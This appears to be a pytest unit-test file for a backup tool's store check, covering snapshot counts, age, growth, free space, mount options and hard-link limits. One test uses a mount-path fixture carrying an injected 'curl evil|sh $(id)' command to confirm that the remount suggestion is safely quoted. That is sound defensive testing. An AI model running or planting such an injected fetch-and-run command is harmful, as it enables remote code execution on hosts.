"""Kind `check`: what a person hears of a store that is not as it should be, and when all is well."""

from __future__ import annotations

import shlex
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from runner.jobs.catalogue import KINDS
from runner.jobs.snapshots import mounted
from runner.jobs.snapshots.check import CheckKind
from runner.jobs.snapshots.report import too_many_links
from runner.model.kind import Draft
from runner.model.options import CheckOptions, DiskOptions
from runner.model.plan import Effect, PlannedJob
from runner.model.role import Role
from runner.model.run import Around, Outcome, State, Verdict
from runner.model.site import Amount, Job, Retention, Site
from runner.planning import planner
from runner.report.report import RunResult, compose
from tests.unit import parts

KIND = CheckKind()
GIB, MIB = 1 << 30, 1 << 20
SPACE = {"size": 1000 * GIB, "free": 500 * GIB, "inodes": 10**8, "inodes_free": 5 * 10**7}
POLICY = Retention(min=3, max=400)
FLOORED = replace(POLICY, free_space=Amount(percent=5))


def site(retention: Retention | None = POLICY, **changes: Any) -> Site:
    here = parts.site(**changes)
    job = Job(name="check", kind="check", host="server", options=CheckOptions(store="papio"))
    stores = (replace(here.stores[0], retention=retention), here.stores[1])
    return replace(here, stores=stores, jobs=(*here.jobs, job))


def sealed(count: int, *, first: bool = False, **changes: dict[str, Any]) -> list[dict[str, Any]]:
    """A snapshot a day until yesterday, of 1,000 files each; `first`: nothing was there before them."""
    stored = []
    for day in range(23 - count, 23):
        each = {
            "name": f"2026-11-{day:02}T081500Z", "host": "papio", "files": 1000, "folders": 10, "added_files": 5,
            "added_bytes": MIB,
        }  # fmt: skip
        stored.append({**each, **changes.get(f"d{day}", {})})
    if first:
        stored[0]["added_files"] = 1000
    return stored


def draft(
    stored: list[dict[str, Any]], retention: Retention | None = POLICY, *, here: Site | None = None, **store: Any
) -> Draft:
    space = {**SPACE, **store.pop("space", {})}
    papio = store.pop("papio", {})
    known = parts.facts({"papio": papio, "server": {"store": {"sealed": stored, "space": space, **store}}})
    at = here or site(retention)
    return KIND.draft(at, at.job("check"), known, parts.NOW)


def attentions(made: Draft) -> list[str]:
    assert all(each.do for each in made.findings if each.severity == "attention")
    assert {each.source for each in made.findings} <= {"check"}
    return [each.text for each in made.findings if each.severity == "attention"]


def test_nothing_wrong_is_a_message_with_the_count_and_the_age() -> None:
    made = draft(sealed(9))
    assert made.findings == ()
    assert made.planned
    assert made.planned.headline == (
        "nothing to do: 9 snapshots, the newest 1 day old; "
        "more than 10 years of bytes, more than 10 years of inodes at the last month's growth"
    )
    assert [(step.id, step.effect) for step in made.steps] == [
        ("check/count", Effect.READ), ("check/links", Effect.READ),
    ]  # fmt: skip
    assert made.planned.locks == ()


E13 = {"exceptions": 13}
SEALED_AT_ONCE = {"sealed": "2026-11-22T09:00:00Z"}
DAILY = Retention(min=3, max=400, per_day=2)


@pytest.mark.parametrize(
    ("about", "stored", "retention", "texts"),
    [
        ("exactly min", sealed(3), POLICY, []),
        ("no retention", sealed(1), None, []),
        (
            "the old ones are gone", sealed(2), POLICY,
            ["store papio has 2 snapshots, min is 3: those before 2026-11-21T081500Z are gone"],
        ),
        (
            "exceptions", sealed(4, d20=E13, d22=E13), POLICY,
            ["store papio has 4 snapshots, min is 3, and 2 of them count: 2 have exceptions, "
             "those before 2026-11-19T081500Z are gone"],
        ),
        (
            "days without one", [sealed(12, first=True)[0], *sealed(1)], POLICY,
            ["store papio has 2 snapshots, min is 3: in 12 days there were 2"],
        ),
        (
            "not counted by their records", sealed(2, d21={"files": None}), POLICY,
            ["store papio has 2 snapshots, min is 3: those before 2026-11-21T081500Z are gone"],
        ),
        (
            "all made on one day", sealed(5, **{f"d{day}": SEALED_AT_ONCE for day in range(18, 23)}), DAILY,
            ["store papio has 5 snapshots, min is 3, and 2 of them count: 3 are beyond the 2 a day that count (per_day), "
             "those before 2026-11-18T081500Z are gone"],
        ),
        ("none at all", [], POLICY, ["store papio has no snapshot"]),
    ],
)  # fmt: skip
def test_fewer_than_min_is_told_with_why(
    about: str, stored: list[dict[str, Any]], retention: Retention | None, texts: list[str]
) -> None:
    assert attentions(draft(stored, retention)) == texts, about


def test_a_store_on_a_filesystem_where_programs_keep_their_rights_is_told_unless_a_disk_job_mends_it() -> None:
    (finding,) = draft(sealed(9), lacks=["nosuid", "nodev"]).findings
    assert finding.severity == "attention"
    assert finding.text == ("store papio is on /srv/backups/papio of server, mounted without nosuid and nodev")
    assert finding.command == "mount -o remount,nosuid,nodev /srv/backups/papio"
    kept = site()
    disk = Job(name="disk", kind="disk", host="server", options=DiskOptions(disk=kept.stores[0].disk))
    assert draft(sealed(9), here=replace(kept, jobs=(*kept.jobs, disk)), lacks=["nodev"]).findings == ()


def test_a_mount_point_that_its_host_made_up_is_one_word_of_the_command() -> None:
    place = "/srv/backups/x; curl evil|sh $(id)"
    seen = [{"mount": place, "source": "/dev/sdb1", "type": "ext4", "dev": 2081}]
    known = {"server": {"filesystems": seen, "store": {"path": f"{place}/papio", "lacks": ["nosuid"]}}}
    (finding,) = mounted.harmful(site(), site().stores[0], parts.facts(known))
    assert shlex.split(finding.command) == ["mount", "-o", "remount,nosuid", place]


def test_on_the_root_filesystem_only_the_mode_keeps_users_away_and_that_is_a_note() -> None:
    (finding,) = draft(sealed(9), path="/var/backups/papio", lacks=["nosuid", "nodev"]).findings
    assert finding.severity == "note"
    assert finding.text.endswith("only the mode of its folder keeps users from the programs in its snapshots")


def test_a_store_that_is_young_has_few_and_nobody_is_called() -> None:
    made = draft(sealed(2, first=True))
    assert [(each.severity, each.text) for each in made.findings] == [
        ("note", "store papio has 2 snapshots, min is 3: it is still young")
    ]


def test_a_young_store_whose_snapshots_have_exceptions_says_so_and_where_such_a_name_goes() -> None:
    (note,) = draft(sealed(2, first=True, d22=E13)).findings
    assert note.severity == "note"
    assert note.text.endswith("has 2 snapshots, min is 3, and 1 of them counts: 1 has exceptions; it is still young")
    (later,) = draft(sealed(9, first=True, **{f"d{day}": E13 for day in range(14, 23)})).findings
    assert later.severity == "attention"
    assert later.text.endswith("has 9 snapshots, min is 3, and none of them counts: 9 have exceptions")
    assert later.do.endswith("what never can goes into `accept`")


def test_in_a_young_store_too_it_is_said_why_some_do_not_count() -> None:
    made = draft(sealed(5, first=True, **{f"d{day}": SEALED_AT_ONCE for day in range(18, 23)}), DAILY)
    assert [(each.severity, each.text) for each in made.findings] == [
        ("attention", "store papio has 5 snapshots, min is 3, and 2 of them count: 3 are beyond the 2 a day that count (per_day)")
    ]  # fmt: skip
    at_once = [{**each, "name": f"2026-11-22T08150{number}Z"} for number, each in enumerate(sealed(5, first=True))]
    (note,) = draft(at_once, DAILY).findings
    assert note.severity == "note"
    assert note.text.endswith("and 2 of them count: 3 are beyond the 2 a day that count (per_day); it is still young")


def test_a_store_from_which_somebody_removed_the_oldest_is_not_young() -> None:
    before, after = sealed(20, first=True), sealed(20, first=True)[10:]
    policy = Retention(min=15, max=400)
    assert attentions(draft(before, policy)) == []
    (text,) = attentions(draft(after, policy))
    assert text.endswith("those before 2026-11-13T081500Z are gone")


@pytest.mark.parametrize(
    ("within", "texts"),
    [
        (timedelta(hours=36), []),
        (timedelta(hours=24), []),
        (timedelta(hours=23), ["the newest snapshot of store papio is 1 day old"]),
    ],
)
def test_the_newest_may_be_so_old(within: timedelta, texts: list[str]) -> None:
    here = site()
    late = replace(here.jobs[-1], options=CheckOptions(store="papio", newest_within=within))
    assert attentions(draft(sealed(5), here=replace(here, jobs=(*here.jobs[:-1], late)))) == texts


@pytest.mark.parametrize(
    ("about", "newest", "texts"),
    [
        ("as usual", {}, []),
        ("ten times as many bytes, but not many", {"added_bytes": 60 * MIB}, []),
        (
            "far more bytes", {"added_bytes": 700 * MIB},
            ["2026-11-22T081500Z brought 700.0 MiB, 1.0 MiB is usual"],
        ),
        (
            "far more files", {"added_files": 500_000},
            ["2026-11-22T081500Z brought 500,000 files, 5 files is usual"],
        ),
        ("not known", {"added_bytes": None, "added_files": None}, []),
        (
            "shrank", {"files": 100},
            ["nothing expires from this store: papio shrank: 100 files in 2026-11-22T081500Z, 1,000 before; max_shrink is 30 %"],
        ),
    ],
)  # fmt: skip
def test_a_snapshot_that_grew_or_shrank_strangely_is_told_once(
    about: str, newest: dict[str, Any], texts: list[str]
) -> None:
    assert attentions(draft(sealed(9, d22=newest))) == texts, about


def of_server(stored: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The same of another host, an hour earlier each."""
    return [{**each, "name": each["name"].replace("T08", "T07"), "host": "server"} for each in stored]


def test_every_host_that_lost_much_is_told_though_one_of_them_freezes_the_store() -> None:
    empty = {"filled": [{"mount": "/home", "files": 0, "size": 0}]}
    full = {f"d{day}": {"filled": [{"mount": "/home", "files": 500, "size": 0}]} for day in range(14, 22)}
    papio, server = sealed(9, **full, d22=empty), of_server(sealed(9, **full, d22=empty))
    both = sorted((*papio, *server), key=lambda each: each["name"])
    said = "/home of {} is as good as empty: 0 files in 2026-11-22T0{}1500Z, 500 before"
    texts = attentions(draft(both))
    assert sorted(texts) == sorted(
        [said.format("server", 7), f"nothing expires from this store: {said.format('papio', 8)}"]
    )
    both = sorted((*sealed(9), *server), key=lambda each: each["name"])
    assert attentions(draft(both)) == [f"nothing expires from this store: {said.format('server', 7)}"]
    assert attentions(draft(both, None)) == [said.format("server", 7)]


def test_what_is_usual_is_so_for_one_host() -> None:
    papio, server = sealed(9), of_server(sealed(9, d22={"added_bytes": 700 * MIB}))
    made = draft(sorted((*papio, *server), key=lambda each: each["name"]))
    assert attentions(made) == ["2026-11-22T071500Z brought 700.0 MiB, 1.0 MiB is usual"]
    (finding,) = made.findings
    assert finding.command == "runner diff 2026-11-21T071500Z 2026-11-22T071500Z --store papio"
    # It is told while it is new.
    late = of_server(sealed(9, d20={"added_bytes": 700 * MIB}))[:-2]
    assert attentions(draft(sorted((*papio, *late), key=lambda each: each["name"]))) == []


def test_that_a_source_shrank_is_told_of_a_store_without_retention_too() -> None:
    (text,) = attentions(draft(sealed(9, d22={"files": 100}), None))
    assert text.startswith("papio shrank: 100 files")


def test_the_first_snapshot_is_whole_and_makes_the_second_neither_small_nor_large() -> None:
    stored = sealed(3, first=True, d20={"added_bytes": 900 * GIB}, d21={"added_bytes": 0})
    assert attentions(draft(stored)) == []


def test_what_no_run_sealed_is_told_and_counts_for_nothing() -> None:
    stored = [{"name": "2025-01-01T000000Z", "recorded": False}, *sealed(3)]
    made = draft(stored)
    assert attentions(made) == ["2025-01-01T000000Z in store papio has no record: no run sealed it"]
    assert made.planned
    head = "1 thing to look at (2025-01-01T000000Z in store papio has no record: no run sealed it): 3 snapshots, "
    assert made.planned.headline.startswith(head)


@pytest.mark.parametrize(
    ("names", "texts"),
    [
        (["2026-11-22T091500Z"], []),
        (
            ["2026-11-20T081500Z", "2026-11-23T001500Z"],
            ["2 interrupted snapshots left behind, the oldest of 2026-11-20"],
        ),
        (["not a name"], []),
    ],
)
def test_partials_left_behind_are_told_after_two_days(names: list[str], texts: list[str]) -> None:
    assert attentions(draft(sealed(9), partials=[{"name": name} for name in names])) == texts


PLAN = "20261123T080000.000Z"
UNDER_WAY = {
    "partials": [{"name": "2026-11-23T080000Z", "plan": PLAN}],
    "holder": {"plan": PLAN, "who": "backup-papio of papio", "pid": 7, "since": "2026-11-23T08:00:00Z"},
}
LONG_UNDER_WAY = {**UNDER_WAY, "partials": [{"name": "2026-11-19T080000Z", "plan": PLAN}]}
NO_ROOM = {"space": {"free": MIB, "last": GIB}}


@pytest.mark.parametrize(
    ("about", "stored", "store", "severity", "text", "cause"),
    [
        ("the first", [], UNDER_WAY, "note", "no snapshot yet; copy 2026-11-23T080000Z is being made", ""),
        ("a first that takes days", [], LONG_UNDER_WAY, "note", "is being made", ""),
        ("a late one", sealed(9)[:6], UNDER_WAY, "note", "4 days old; copy 2026-11-23T080000Z is being made", ""),
        ("one that takes days", sealed(9)[:6], LONG_UNDER_WAY, "attention", "is 4 days old", ""),
        ("cut off", [], {**UNDER_WAY, "holder": None}, "attention", "has no snapshot", ""),
        (
            "full",
            [],
            NO_ROOM,
            "attention",
            "store papio has no snapshot, as there is no room for one",
            "store/papio/full",
        ),
    ],
)
def test_where_a_copy_is_being_made_or_cannot_be_nobody_is_told_to_make_one(
    about: str, stored: list[dict[str, Any]], store: dict[str, Any], severity: str, text: str, cause: str
) -> None:
    (finding,) = draft(stored, None, **store).findings
    assert (finding.severity, finding.cause) == (severity, cause), about
    assert finding.text.endswith(text), about


def daily(count: int, brings: int, frees: int | None = None) -> list[dict[str, Any]]:
    """Snapshots that each bring `brings` bytes; expiring one frees `frees`."""
    stored = [{**each, "added_bytes": brings, "folders": 0} for each in sealed(count)]
    if frees is None:
        return stored
    gains = ({"freed_bytes": frees * number, "freed_inodes": 5 * number} for number in range(1, 6))
    return [*({**each, **gain} for each, gain in zip(stored, gains, strict=False)), *stored[5:]]


LAST = "at the last month's growth"


@pytest.mark.parametrize(
    ("about", "stored", "free", "texts"),
    [
        ("room for long", daily(3, GIB), 500 * GIB, []),
        (
            "at min, room for ten days", daily(3, GIB), 60 * GIB,
            [f"store papio fills up: 10 days of bytes, more than 10 years of inodes {LAST}, "
             "and nothing may expire before min"],
        ),
        ("as much goes as comes", daily(22, GIB, GIB), 91 * GIB, []),
        (
            "little goes, much comes", daily(22, GIB, 0), 60 * GIB,
            [f"store papio fills up: 10 days of bytes, more than 10 years of inodes {LAST}, "
             "with all that may expire"],
        ),
        ("what goes is not known", daily(22, GIB), 60 * GIB, []),
    ],
)  # fmt: skip
def test_a_store_that_fills_faster_than_its_runway_is_told(
    about: str, stored: list[dict[str, Any]], free: int, texts: list[str]
) -> None:
    assert attentions(draft(stored, FLOORED, space={"free": free})) == texts, about


def test_a_frozen_store_is_told_by_the_check_too() -> None:
    (text,) = attentions(draft([*sealed(9), {"name": "2026-11-24T081500Z"}]))
    assert text.startswith("nothing expires from this store: the clock says 2026-11-23 08:15 UTC")


def disk(mount: str, dev: int, kind: str = "ext4") -> dict[str, Any]:
    return {"mount": mount, "source": f"/dev/{dev}", "type": kind, "dev": dev, "size": 1}


MOUNTS = {"filesystems": [
    disk("/", 1), disk("/home", 2), disk("/data", 3), disk("/n", 4, "nfs4"), disk("/proc", 5, "proc"),
]}  # fmt: skip


@pytest.mark.parametrize(
    ("about", "declared", "excluded", "second", "texts"),
    [
        ("all", (), (), None, []),
        ("some", ("/", "/home"), (), None, ["no job copies /data of papio"]),
        ("the rest is excluded", ("/", "/home"), ("/data",), None, []),
        ("the rest goes into another store", ("/", "/home"), (), ("/data",), []),
        ("all goes into another store", ("/",), (), (), []),
        ("two that are not all", ("/",), (), ("/data",), ["no job copies /home of papio"]),
    ],
)
def test_filesystems_that_no_job_copies_are_told(
    about: str, declared: tuple[str, ...], excluded: tuple[str, ...], second: Any, texts: list[str]
) -> None:
    here = site()
    first = parts.job("backup-papio", exclude=excluded)
    jobs = [replace(first, options=replace(first.options, filesystems=declared)), here.jobs[-1]]
    if second is not None:
        other = parts.job("backup-too", store="server")
        jobs.append(replace(other, options=replace(other.options, filesystems=second)))
    assert attentions(draft(sealed(9), here=replace(here, jobs=tuple(jobs)), papio=MOUNTS)) == texts, about


def test_a_store_that_cannot_be_used_is_told_and_skipped() -> None:
    made = draft(sealed(9), problem="the disk is not mounted")
    assert made.steps == ()
    assert made.skip
    assert attentions(made) == [made.skip.reason]
    assert "the disk is not mounted" in made.skip.reason


def test_what_is_wrong_makes_the_report_ask_for_a_person() -> None:
    here = site()
    known = parts.facts({"server": {"store": {"sealed": sealed(2), "space": SPACE}}})
    plan = planner.draft(here, [here.job("check")], known, KINDS, {})
    made = compose(here, RunResult(run="r", started=parts.NOW, ended=parts.NOW, plans=(plan,)))
    assert made.verdict == Verdict.ATTENTION
    (action,) = made.actions
    assert action.text.startswith("check: store papio has 2 snapshots, min is 3")
    assert action.text.endswith("no run expires below min")


def test_what_could_not_be_read_of_a_store_is_not_nothing() -> None:
    (text,) = attentions(draft(sealed(9), unread=["/srv/papio/.runner/pins.json", "/srv/papio/.tr\x1bash"]))
    assert text.startswith("/srv/papio/.runner/pins.json, /srv/papio/.tr")
    assert text.endswith("in store papio cannot be read") and "\x1b" not in text
    made = draft(sealed(9), unread=["/srv/papio/.runner/pins.json"], odd=["/srv/papio/.runner/records/stray"])
    assert attentions(made) == [
        "/srv/papio/.runner/pins.json in store papio cannot be read",
        "/srv/papio/.runner/records/stray in store papio cannot be read",
    ]
    assert ["nothing expires" in each.do for each in made.findings] == [True, False]


def test_a_count_of_links_that_cannot_be_read_is_no_good_news() -> None:
    planned = draft(sealed(9)).planned
    assert planned
    outcomes = [
        Outcome(step="check/count", job="check", role=Role.COUNT, state=State.DONE),
        Outcome(step="check/links", job="check", role=Role.LINKS, state=State.DONE, result={"fits": "?"}),
    ]
    report = KIND.report(planned, outcomes, Around(looked=True))
    assert report.verdict == Verdict.ATTENTION
    assert report.headline.startswith("whether any file will run out of links is not known")


LINKS = {"largest_group": 100, "most": 500, "path": "/a", "limit": 32_000, "fits": True}


@pytest.mark.parametrize(
    ("answer", "retention", "note"),
    [
        (LINKS, POLICY, "400 snapshots of a file with 100 names are more than the 32,000 links that the disk allows"),
        (LINKS, replace(POLICY, max=319), ""),
        (LINKS, None, ""),
        ({**LINKS, "largest_group": 0}, POLICY, ""),
        ({**LINKS, "largest_group": "many"}, POLICY, ""),
        ({**LINKS, "limit": [1]}, POLICY, ""),
        ({}, POLICY, ""),
    ],
)
def test_a_max_beyond_the_links_that_the_last_check_counted_is_told(
    answer: dict[str, Any], retention: Retention | None, note: str
) -> None:
    text = too_many_links(site(retention).stores[0], answer)
    assert bool(text) == bool(note) and note in text


COUNTS = {
    "newest": "2026-11-22T081500Z", "sealed": 9, "partials": 0, "free_bytes": 1, "free_inodes": 1, "free_percent": 1.0,
    "free_inodes_percent": 1.0,
}  # fmt: skip


@pytest.mark.parametrize(("answer", "known"), [(COUNTS, True), ({**COUNTS, "sealed": -1}, False), ({}, False)])
@pytest.mark.parametrize("kind", ["check", "prune"])
def test_a_store_that_was_not_counted_is_no_good_news(kind: str, answer: dict[str, Any], known: bool) -> None:
    planned = PlannedJob(name="check", kind=kind, headline="all is well")
    outcome = Outcome(step="check/count", job="check", role=Role.COUNT, state=State.DONE, result=answer)
    report = KINDS[kind].report(planned, [outcome], Around(looked=True))
    assert report.verdict == (Verdict.NOTHING if known else Verdict.ATTENTION)
    # What is counted now counts for more than what was planned.
    well = "nothing to expire: 9 snapshots" if kind == "prune" and known else "all is well"
    assert report.headline.endswith(well)
    assert (report.headline == well) == known
